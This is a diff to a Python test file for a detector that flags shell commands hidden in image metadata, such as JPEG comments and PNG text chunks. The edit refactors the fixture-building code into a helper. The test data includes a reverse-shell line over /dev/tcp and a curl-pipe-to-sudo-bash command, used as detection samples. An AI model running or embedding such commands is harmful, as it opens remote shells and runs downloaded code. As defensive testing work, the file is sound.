@@ -15,7 +15,7 @@ from corrupt_samples.payloads import ALL, HTML, PHP, SCRIPT, SHELL
 from corrupt_samples.pictures import photo
 from corrupt_samples.surgery import jpeg_patched
 from sanitize.probe import payload_text
-from tests.embedding import APP0, APP1, APP13, COM, XMP, places, with_chunk, with_segment
+from tests.embedding import APP0, APP1, APP13, COM, XMP, in_comments, places, with_chunk, with_segment
 
 if TYPE_CHECKING:
     from tests.conftest import Fired
@@ -127,7 +127,7 @@ def test_is_silent_about_code_that_data_quote(fired: Fired) -> None:
         "settings.jpg": jpeg(photo("a"), comment=page),
         "prompt.png": with_chunk(b"tEXt", b"parameters\0" + prompt),
         "prompt.gif": encode(photo("a"), "GIF", comment=prompt),
-        **{f"{number}.jpg": jpeg(photo("a"), comment=said) for number, said in enumerate(_SAID)},
+        **in_comments(_SAID),
         **{f"{number}.png": with_chunk(b"tEXt", b"Source\0" + said) for number, said in enumerate(_SAID)},
     }
     assert fired(RULE, files) == {}
@@ -163,7 +163,7 @@ def test_is_silent_about_prose_that_quotes_a_call(fired: Fired) -> None:
         b"<script type='text/plain'>only words</script>",
         b"a <script of the film> on a table",
     ]
-    files = {f"{number}.jpg": jpeg(photo("a"), comment=text) for number, text in enumerate(told)}
+    files = in_comments(told)
     files |= {f"{number}.png": with_chunk(b"tEXt", b"Comment\0" + text) for number, text in enumerate(told)}
     assert fired(RULE, files) == {}
 
@@ -195,10 +195,10 @@ def test_the_byte_before_a_part_takes_nothing_from_the_word_at_its_beginning(fir
 
 def test_finds_commands_that_are_all_of_a_text(fired: Fired) -> None:
     shells = [b"bash -i >& /dev/tcp/203.0.113.7/80 0>&1", b"curl -s http://example.org/x | sudo bash"]
-    files = {f"{number}.jpg": jpeg(photo("a"), comment=text) for number, text in enumerate(shells)}
+    files = in_comments(shells)
     assert places(fired(RULE, files)) == dict.fromkeys(files, "a shell command in the comment of the JPEG")
     said = [b"It is installed by curl http://example.org/x | sh which takes a while", b"# curl it | sh"]
-    assert fired(RULE, {f"{number}.jpg": jpeg(photo("a"), comment=text) for number, text in enumerate(said)}) == {}
+    assert fired(RULE, in_comments(said)) == {}
 
 
 def test_quotes_nothing_that_stands_behind_the_part_where_code_is() -> None:
@@ -295,7 +295,7 @@ def test_is_silent_about_ordinary_comments(fired: Fired) -> None:
         b"<title>not a page</title>",
         b"x" * 20_000,
     ]
-    files = {f"{number}.jpg": jpeg(photo("a"), comment=comment) for number, comment in enumerate(comments)}
+    files = in_comments(comments)
     assert fired(RULE, files) == {}
 
 
